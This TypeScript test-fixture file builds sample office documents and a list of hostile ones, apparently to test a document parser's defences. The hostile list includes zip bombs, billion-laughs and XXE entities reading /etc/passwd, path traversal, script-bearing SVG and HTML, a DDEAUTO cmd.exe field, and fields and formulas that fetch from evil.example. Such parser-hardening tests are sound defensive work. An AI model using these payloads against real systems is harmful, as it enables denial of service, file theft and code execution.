// Documents as the programs of offices write them, made here, and what somebody who means harm makes of them.
import { strToU8, zipSync } from 'fflate'

type Parts = Readonly<Record<string, string | Uint8Array>>

/** A document of parts. */
export function archiveOf(parts: Parts, level: 0 | 1 = 1): Uint8Array {
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part])), { level })
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
const O = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'

/** A picture of one pixel. */
export const PIXEL = new Uint8Array(Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64'))

/** What relates parts. */
export const relations = (...targets: readonly (readonly [id: string, target: string, mode?: string])[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${targets.map(([id, target, mode]) => `<Relationship Id="${id}" Type="t" Target="${target}"${mode === undefined ? '' : ` TargetMode="${mode}"`}/>`).join('')}</Relationships>`

/** A text of Word with a body. */
export const wordOf = (body: string, more: Parts = {}): Uint8Array => archiveOf({ 'word/document.xml': `<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`, ...more })

export const paragraph = (text: string, properties = ''): string => `<w:p>${properties}<w:r><w:t>${text}</w:t></w:r></w:p>`

/** A note of a ministry: a heading, words, a list, a table, a picture, a change that is tracked, a note at the end. */
export function makeWord(): Uint8Array {
  const list = (level: number, id: number): string => `<w:pPr><w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="${id}"/></w:numPr></w:pPr>`
  return wordOf(
    [
      paragraph('Note on the budget', '<w:pPr><w:pStyle w:val="Titre1"/></w:pPr>'),
      '<w:p><w:r><w:t xml:space="preserve">The figures are </w:t></w:r><w:r><w:rPr><w:b/><w:i w:val="0"/></w:rPr><w:t>final</w:t></w:r><w:del><w:r><w:delText>draft</w:delText></w:r></w:del><w:ins><w:r><w:t>.</w:t></w:r></w:ins><w:r><w:footnoteReference w:id="2"/></w:r></w:p>',
      paragraph('Personnel', list(0, 1)),
      paragraph('Prefectures', list(1, 1)),
      paragraph('Buildings', list(0, 1)),
      paragraph('Anything else', list(0, 2)),
      `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr>${paragraph('Posts')}</w:tc></w:tr><w:tr><w:tc>${paragraph('2026')}</w:tc><w:tc>${paragraph('12.4')}</w:tc></w:tr></w:tbl>`,
      '<w:p><w:r><w:drawing><wp:docPr xmlns:wp="x" id="1" descr="The building site"/><a:blip r:embed="rId1"/></w:drawing></w:r></w:p>',
      '<w:sectPr/>',
    ].join(''),
    {
      'word/_rels/document.xml.rels': relations(['rId1', 'media/image1.png']),
      'word/media/image1.png': PIXEL,
      'word/styles.xml': `<w:styles ${W}><w:style w:styleId="Titre1"><w:name w:val="heading 1"/></w:style></w:styles>`,
      'word/numbering.xml': `<w:numbering ${W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl><w:lvl w:ilvl="1"><w:numFmt w:val="decimal"/></w:lvl></w:abstractNum><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num></w:numbering>`,
      'word/footnotes.xml': `<w:footnotes ${W}><w:footnote w:type="separator" w:id="0"/><w:footnote w:id="2">${paragraph('As of November.')}</w:footnote></w:footnotes>`,
    },
  )
}

/** A workbook with sheets of rows. */
export function workbookOf(sheets: Readonly<Record<string, string>>, more: Parts = {}): Uint8Array {
  const names = Object.keys(sheets)
  return archiveOf({
    'xl/workbook.xml': `<workbook ${S}><sheets>${names.map((name, index) => `<sheet name="${name}" sheetId="${index + 1}" r:id="rId${index + 1}"/>`).join('')}</sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relations(...names.map((_, index) => [`rId${index + 1}`, `worksheets/sheet${index + 1}.xml`] as const)),
    ...Object.fromEntries(Object.values(sheets).map((rows, index) => [`xl/worksheets/sheet${index + 1}.xml`, `<worksheet ${S}><sheetData>${rows}</sheetData></worksheet>`])),
    ...more,
  })
}

/** Figures of a ministry, with dates, money, a share and a formula. */
export function makeWorkbook(): Uint8Array {
  const figures = [
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="D1" t="inlineStr"><is><t>Share</t></is></c></row>',
    '<row r="3"><c r="A3" t="str"><v>Personnel</v></c><c r="B3" s="1"><v>1234567.891</v></c><c r="C3" s="2"><v>46357</v></c><c r="D3" s="3"><v>0.125</v></c></row>',
    '<row r="4"><c r="A4" t="b"><v>1</v></c><c r="B4"><f>SUM(B3)</f><v>0.30000000000000004</v></c><c r="C4" t="e"><v>#REF!</v></c></row>',
  ]
  return workbookOf(
    { Figures: figures.join(''), Empty: '' },
    {
      'xl/sharedStrings.xml': `<sst ${S}><si><t>Post</t></si><si><r><t>2027 </t></r><r><t>in €</t></r><rPh><t>not read</t></rPh></si></sst>`,
      'xl/styles.xml': `<styleSheet ${S}><numFmts><numFmt numFmtId="164" formatCode="#,##0.00\\ &quot;€&quot;"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="14"/><xf numFmtId="10"/></cellXfs></styleSheet>`,
    },
  )
}

/** Two slides. */
export function makeSlides(): Uint8Array {
  const shape = (text: string, role = ''): string => `<p:sp><p:nvSpPr><p:cNvPr id="1" name="a"/><p:nvPr>${role === '' ? '' : `<p:ph type="${role}"/>`}</p:nvPr></p:nvSpPr><p:txBody><a:p><a:r><a:rPr b="1"/><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp>`
  const slide = (shapes: string): string => `<p:sld ${P}><p:cSld><p:spTree>${shapes}</p:spTree></p:cSld></p:sld>`
  return archiveOf({
    'ppt/presentation.xml': `<p:presentation ${P}><p:sldIdLst><p:sldId id="256" r:id="rId2"/><p:sldId id="257" r:id="rId1"/></p:sldIdLst></p:presentation>`,
    'ppt/_rels/presentation.xml.rels': relations(['rId1', 'slides/slide1.xml'], ['rId2', 'slides/slide2.xml']),
    'ppt/slides/slide1.xml': slide(shape('Second')),
    'ppt/slides/slide2.xml': slide(`${shape('First', 'ctrTitle')}<p:pic><p:nvPicPr><p:cNvPr id="2" name="b" descr="A plan"/></p:nvPicPr><p:blipFill><a:blip r:embed="rId9"/></p:blipFill></p:pic>`),
    'ppt/slides/_rels/slide2.xml.rels': relations(['rId9', '../media/image1.png']),
    'ppt/media/image1.png': PIXEL,
  })
}

/** A document of LibreOffice. */
export const openDocumentOf = (body: string, styles = ''): Uint8Array =>
  archiveOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': `<office:document-content ${O}><office:automatic-styles>${styles}</office:automatic-styles><office:body>${body}</office:body></office:document-content>`, 'Pictures/a.png': PIXEL })

/** A text of LibreOffice. */
export const makeOpenText = (): Uint8Array =>
  openDocumentOf(
    `<office:text><text:h text:outline-level="2">Minutes</text:h><text:p>Present: <text:span text:style-name="T1">Alice</text:span><text:s text:c="2"/>and Bob<text:note><text:note-body><text:p>by telephone</text:p></text:note-body></text:note></text:p>
    <text:list text:style-name="L1"><text:list-item><text:p>Roof</text:p><text:list><text:list-item><text:p>Gutters</text:p></text:list-item></text:list></text:list-item></text:list>
    <table:table><table:table-row><table:table-cell table:number-columns-spanned="2"><text:p>both</text:p></table:table-cell></table:table-row></table:table>
    <text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame></text:p></office:text>`,
    '<style:style style:name="T1"><style:text-properties fo:font-weight="bold"/></style:style><text:list-style style:name="L1"><text:list-level-style-number text:level="1"/></text:list-style>',
  )

/** Sheets of LibreOffice; the last row and column stand for all that are empty, as it writes them. */
export const makeOpenSheets = (): Uint8Array =>
  openDocumentOf(
    `<office:spreadsheet><table:table table:name="Figures"><table:table-row><table:table-cell office:value-type="string"><text:p>Post</text:p></table:table-cell><table:table-cell table:number-columns-repeated="2" office:value-type="float" office:value="3"><text:p>3,00 €</text:p></table:table-cell><table:table-cell table:number-columns-repeated="16000"/></table:table-row>
    <table:table-row table:number-rows-repeated="2"><table:table-cell table:number-columns-repeated="16384"/></table:table-row><table:table-row table:number-rows-repeated="2"><table:table-cell><text:p>twice</text:p></table:table-cell></table:table-row>
    <table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table></office:spreadsheet>`,
  )

const LAUGHS = `<!DOCTYPE w [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, index) => `<!ENTITY a${index + 1} "&a${index === 0 ? '' : index};&a${index === 0 ? '' : index};">`).join('')}]>`
const entity = (declaration: string): Uint8Array => archiveOf({ 'word/document.xml': `<?xml version="1.0"?>${declaration}<w:document ${W}><w:body><w:p><w:r><w:t>&a30;&x;</w:t></w:r></w:p></w:body></w:document>` })

/** An archive whose directory says less than what is in it. */
export function understated(whole: Uint8Array): Uint8Array {
  const changed = whole.slice()
  const view = new DataView(changed.buffer)
  for (let at = 0; at + 4 <= changed.length; at += 1) {
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 10, true)
    if (view.getUint32(at, true) === 0x04034b50) view.setUint32(at + 22, 10, true)
  }
  return changed
}

const spaces = (bytes: number): Uint8Array => new Uint8Array(bytes).fill(0x20)

/** What would cost time, memory, or somebody's trust. `shown`: whether something of it can be shown all the same. */
export const HOSTILE_DOCUMENTS: readonly { name: string; make: () => Uint8Array; isShown: boolean }[] = [
  { name: 'nothing', make: () => new Uint8Array(), isShown: false },
  { name: 'no archive', make: () => strToU8('PK\u0003\u0004 and nothing of one'), isShown: false },
  { name: 'half an archive', make: () => makeWord().subarray(0, 500), isShown: false },
  { name: 'an archive of nothing that is a document', make: () => archiveOf({ 'a.txt': 'a' }), isShown: false },
  { name: 'a bomb of one part', make: () => archiveOf({ 'word/document.xml': spaces(30_000_000) }), isShown: false },
  { name: 'a bomb that says it is small', make: () => understated(archiveOf({ 'word/document.xml': spaces(30_000_000) })), isShown: false },
  { name: 'a bomb of many parts', make: () => wordOf(Array.from({ length: 5 }, (_, index) => `<w:p><w:r><w:drawing><a:blip r:embed="r${index}"/></w:drawing></w:r></w:p>`).join(''), { 'word/_rels/document.xml.rels': relations(...Array.from({ length: 5 }, (_, index) => [`r${index}`, `media/${index}.png`] as const)), ...Object.fromEntries(Array.from({ length: 5 }, (_, index) => [`word/media/${index}.png`, spaces(18_000_000)])) }), isShown: false },
  { name: 'more parts than any document has', make: () => archiveOf(Object.fromEntries(Array.from({ length: 12_000 }, (_, index) => [`p${index}`, ''])), 0), isShown: false },
  { name: 'entities that laugh a billion times', make: () => entity(LAUGHS), isShown: false },
  { name: 'an entity that reads a file', make: () => entity('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), isShown: false },
  { name: 'an entity from elsewhere', make: () => entity('<!DOCTYPE w SYSTEM "https://evil.example/a.dtd">'), isShown: false },
  { name: 'XML that is none', make: () => archiveOf({ 'word/document.xml': '<w:document><w:body>' }), isShown: false },
  { name: 'elements within elements without end', make: () => wordOf(`${'<w:sdt>'.repeat(1500)}${'</w:sdt>'.repeat(1500)}`), isShown: true },
  { name: 'tables within tables', make: () => wordOf(`${'<w:tbl><w:tr><w:tc>'.repeat(400)}${'</w:tc></w:tr></w:tbl>'.repeat(400)}`), isShown: true },
  { name: 'a picture from elsewhere', make: () => wordOf('<w:p><w:r><w:drawing><a:blip r:embed="r1"/></w:drawing></w:r></w:p>', { 'word/_rels/document.xml.rels': relations(['r1', 'https://evil.example/pixel.png', 'External']) }), isShown: true },
  { name: 'a part outside the archive', make: () => wordOf('<w:p><w:r><w:drawing><a:blip r:embed="r1"/></w:drawing></w:r></w:p>', { 'word/_rels/document.xml.rels': relations(['r1', '../../../../etc/passwd']), '../../../etc/passwd': 'root' }), isShown: true },
  { name: 'a picture that is a page', make: () => wordOf('<w:p><w:r><w:drawing><a:blip r:embed="r1"/></w:drawing></w:r></w:p>', { 'word/_rels/document.xml.rels': relations(['r1', 'media/a.svg']), 'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>' }), isShown: true },
  { name: 'a script in its words, a link that runs, a field that fetches', make: () => wordOf(`${paragraph('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;')}<w:p><w:hyperlink r:id="r1"><w:r><w:t>press</w:t></w:r></w:hyperlink><w:r><w:instrText>INCLUDEPICTURE "https://evil.example/a.png"</w:instrText></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>`, { 'word/_rels/document.xml.rels': relations(['r1', 'javascript:alert(1)', 'External']), 'word/vbaProject.bin': spaces(1000) }), isShown: true },
  { name: 'a cell that is a formula of an attack', make: () => workbookOf({ '=cmd|calc': '<row><c t="str"><v>=HYPERLINK("https://evil.example")</v></c></row>' }), isShown: true },
  { name: 'rows and columns out of bounds', make: () => workbookOf({ a: '<row r="99999999999"><c r="ZZZ1"><v>1</v></c><c r="A-1"><v>1e999</v></c><c r="__proto__" t="s"><v>__proto__</v></c><c t="s"><v>-1</v></c><c s="99999"><v>NaN</v></c></row>'.repeat(3000) }), isShown: true },
  { name: 'a sheet of very many cells', make: () => workbookOf({ a: `<row>${'<c><v>1</v></c>'.repeat(100)}</row>`.repeat(400) }), isShown: true },
  { name: 'cells that stand for billions', make: () => openDocumentOf(`<office:spreadsheet><table:table>${'<table:table-row table:number-rows-repeated="999999999"><table:table-cell table:number-columns-repeated="999999999"><text:p>x</text:p></table:table-cell></table:table-row>'.repeat(50)}</table:table></office:spreadsheet>`), isShown: true },
  { name: 'spaces without end', make: () => openDocumentOf(`<office:text><text:p>${'<text:s text:c="999999999"/>'.repeat(1000)}</text:p></office:text>`), isShown: true },
  { name: 'a great many words', make: () => wordOf(paragraph('x'.repeat(3000)).repeat(800)), isShown: true },
  { name: 'names that mean something', make: () => workbookOf({ __proto__: '', constructor: '<row><c t="str"><v>constructor</v></c></row>' }), isShown: true },
]
